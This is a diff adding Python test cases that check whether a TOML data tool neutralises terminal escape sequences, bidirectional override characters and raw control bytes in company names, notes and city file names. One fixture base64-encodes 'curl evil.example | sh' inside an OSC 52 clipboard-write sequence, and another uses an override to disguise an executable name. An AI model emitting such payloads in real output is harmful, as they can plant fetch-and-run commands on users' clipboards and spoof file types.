@@ -284,3 +284,53 @@ CASES: list[Case] = [
     Case("a logo behind a symlinked folder", _logo_folder_symlink, CLEAN, mark=CLEAN),
 ]
 
+
+
+# ------------------------------------------------------------------ text no terminal may obey (issue 17, classes 0 and 8)
+
+OSC = "\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007\\u001b]2;pwned\\u0007"  # clipboard, window title
+BIDI = "\\u202egpj.exe\\u202c\\u2066x\\u2069\\u200f"  # an override, an isolate, a mark
+C1_RAW = "\u009b31m\u0085"  # the 8-bit CSI and NEL, written as they are (TOML allows them unescaped)
+
+
+def _company_name(value: str) -> Callable[[Path], None]:
+    return _replace(COMPANY, 'name = "Demobostäder AB"', f'name = "{value}Demobostäder AB"')
+
+
+def _city_named_file(raw_name: bytes, text_from: str = GBG, damage: bytes = b"") -> Callable[[Path], None]:
+    """Another file for a city, its name raw bytes (not UTF-8, escapes, a newline)."""
+
+    def build(root: Path) -> None:
+        data = (root / text_from).read_bytes() + damage
+        with open(os.path.join(os.fsencode(root / "cities"), raw_name), "wb") as f:
+            f.write(data)
+
+    return build
+
+
+def _renamed_raw(rel: str, raw_name: bytes, damage: bytes = b"") -> Callable[[Path], None]:
+    def build(root: Path) -> None:
+        data = (root / rel).read_bytes()
+        (root / rel).unlink()
+        with open(os.path.join(os.fsencode(root / "cities"), raw_name), "wb") as f:
+            f.write(data + damage)
+
+    return build
+
+
+CASES += [
+    Case("osc 52 and osc 2 in the company name", _company_name(OSC), CLEAN, mark=CLEAN),
+    Case("bidi controls in names, partners and notes", _all(
+        _company_name(BIDI),
+        _replace(GBG, 'organisation = "Polisen, lokalpolisområde Centrum"', f'organisation = "{BIDI}Polisen"'),
+        _replace(GBG, 'note = "Fastighetsskötarna återstår."', f'note = "{BIDI}"'),
+    ), CLEAN, mark=CLEAN),
+    Case("raw c1 controls in a name and a note", _all(
+        _company_name(C1_RAW),
+        _replace(GBG, 'note = "Fastighetsskötarna återstår."', f'note = "{C1_RAW}"'),
+    ), CLEAN, mark=CLEAN),
+    Case("a city file named with a raw 0x9b byte", _city_named_file(b"1480-\x9b\x1b]2;x.toml"), FINDINGS),
+    Case("a city file named with a newline", _city_named_file(b"1480-a\nb.toml"), FINDINGS),
+    Case("an unreadable city file named with a raw 0x9b byte", _renamed_raw(STHLM, b"0180-\x9b.toml", b"\n[broken\n"),
+         UNREADABLE, "cities/0180-\\x9b.toml", mark_city="0180"),
+]
